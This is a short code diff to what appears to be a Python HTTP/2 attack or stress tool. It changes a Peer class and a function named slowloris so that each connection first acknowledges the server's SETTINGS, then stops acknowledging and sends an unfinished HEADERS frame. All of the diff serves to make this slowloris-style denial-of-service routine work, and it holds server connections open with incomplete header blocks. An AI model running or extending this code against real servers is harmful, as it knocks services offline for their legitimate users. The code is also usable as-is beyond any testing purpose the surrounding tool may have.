@@ -48,6 +48,7 @@ class Peer:
         self.rst = {}
         self.responses = 0
         self.write_blocked = False
+        self.auto_ack = True  # answer the server's SETTINGS
         self.sock = connect(a)
         self.write(PREFACE + settings(list(settings_pairs)), frames=1)
 
@@ -108,7 +109,7 @@ class Peer:
                 self.rst[code] = self.rst.get(code, 0) + 1
             elif ftype == HEADERS:
                 self.responses += 1
-            elif ftype == SETTINGS and not flags & 1:
+            elif ftype == SETTINGS and not flags & 1 and self.auto_ack:
                 self.write(frame(SETTINGS, 1, 0))
 
     def watch(self, seconds):
@@ -267,6 +268,9 @@ def slowloris(a, start):
         if not bounded(a, start):
             break
         p, enc = Peer(a, start), hpack.Encoder()
+        # Acknowledge the server's SETTINGS first: nothing but CONTINUATION may follow HEADERS.
+        p.poll(0.2)
+        p.auto_ack = False
         p.write(frame(HEADERS, 0, 1, request_block(a, enc)))
         peers.append(p)
     end = time.monotonic() + a.wait
